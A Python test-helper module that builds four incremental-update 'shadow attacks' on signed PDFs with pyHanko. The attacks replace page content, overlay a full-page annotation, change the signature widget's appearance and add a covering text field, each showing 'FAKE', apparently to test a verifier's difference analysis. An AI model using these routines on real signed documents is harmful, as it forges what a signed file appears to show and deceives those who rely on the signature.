"""Shadow attacks on a signed PDF: incremental updates appended after the last signature.

Each function reads a signed file and writes ``out`` = signed bytes + one new revision made with
pyHanko's IncrementalPdfFileWriter (the signed bytes stay intact, so only difference analysis
can tell). Used by tests/unit/signing, tests/e2e and tests/fuzz/test_hostile_signed_pdfs.py.
"""

from __future__ import annotations

import io
from pathlib import Path

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

FAKE_CONTENT = b"BT /F1 40 Tf 60 700 Td (FAKE) Tj ET"


def _n(name: str) -> generic.NameObject:
    return generic.NameObject(name)


def _rect(*xs: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(x) for x in xs])


def _write(w: IncrementalPdfFileWriter, out: Path) -> Path:
    with out.open("wb") as f:
        w.write(f)
    return out


def _writer(signed: Path) -> tuple[IncrementalPdfFileWriter, generic.DictionaryObject, generic.IndirectObject]:
    w = IncrementalPdfFileWriter(io.BytesIO(Path(signed).read_bytes()))
    page_ref = w.root["/Pages"]["/Kids"][0]
    return w, page_ref.get_object(), page_ref


def replace_page_content(signed: Path, out: Path, content: bytes = FAKE_CONTENT) -> Path:
    """Page 1 gets a brand-new /Contents stream (the recipe of issue 18 point 1)."""
    w, page, _ref = _writer(signed)
    page[_n("/Contents")] = w.add_object(generic.StreamObject(stream_data=content))
    w.update_container(page)
    return _write(w, out)


def overlay_annotation(signed: Path, out: Path, text: str = "FAKE") -> Path:
    """A FreeText annotation covering the whole page, drawn over the signed content."""
    w, page, ref = _writer(signed)
    annot = w.add_object(generic.DictionaryObject({
        _n("/Type"): _n("/Annot"), _n("/Subtype"): _n("/FreeText"), _n("/Rect"): _rect(0, 0, 600, 800),
        _n("/Contents"): generic.TextStringObject(text), _n("/DA"): generic.TextStringObject("/Helv 40 Tf 0 g"),
        _n("/P"): ref,
    }))
    annots = page.get("/Annots")
    if annots is None:
        page[_n("/Annots")] = generic.ArrayObject([annot])
        w.update_container(page)
    else:
        arr = annots.get_object()
        arr.append(annot)
        w.update_container(arr if isinstance(page.raw_get("/Annots"), generic.IndirectObject) else page)
    return _write(w, out)


def change_signature_widget(signed: Path, out: Path) -> Path:
    """The first form field (the signature widget) gets a new appearance showing other text."""
    w, _page, _ref = _writer(signed)
    field = w.root["/AcroForm"]["/Fields"][0].get_object()
    look = w.add_object(generic.StreamObject(
        {_n("/Type"): _n("/XObject"), _n("/Subtype"): _n("/Form"), _n("/BBox"): _rect(0, 0, 200, 80)},
        stream_data=b"BT /F1 20 Tf 10 10 Td (FAKE) Tj ET"))
    field[_n("/AP")] = generic.DictionaryObject({_n("/N"): look})
    w.update_container(field)
    return _write(w, out)


def add_text_field(signed: Path, out: Path, value: str = "FAKE") -> Path:
    """A new filled text field whose widget covers the top of page 1."""
    w, page, ref = _writer(signed)
    widget = w.add_object(generic.DictionaryObject({
        _n("/FT"): _n("/Tx"), _n("/T"): generic.TextStringObject("so_van_ban"),
        _n("/V"): generic.TextStringObject(value), _n("/Type"): _n("/Annot"), _n("/Subtype"): _n("/Widget"),
        _n("/Rect"): _rect(0, 600, 600, 800), _n("/P"): ref,
    }))
    acro = w.root["/AcroForm"]
    acro["/Fields"].append(widget)
    w.update_container(acro)
    annots = page["/Annots"].get_object()
    annots.append(widget)
    w.update_container(annots if isinstance(page.raw_get("/Annots"), generic.IndirectObject) else page)
    return _write(w, out)


ATTACKS = {
    "content_replaced": replace_page_content,
    "overlay_annotation": overlay_annotation,
    "signature_widget_changed": change_signature_widget,
    "text_field_added": add_text_field,
}
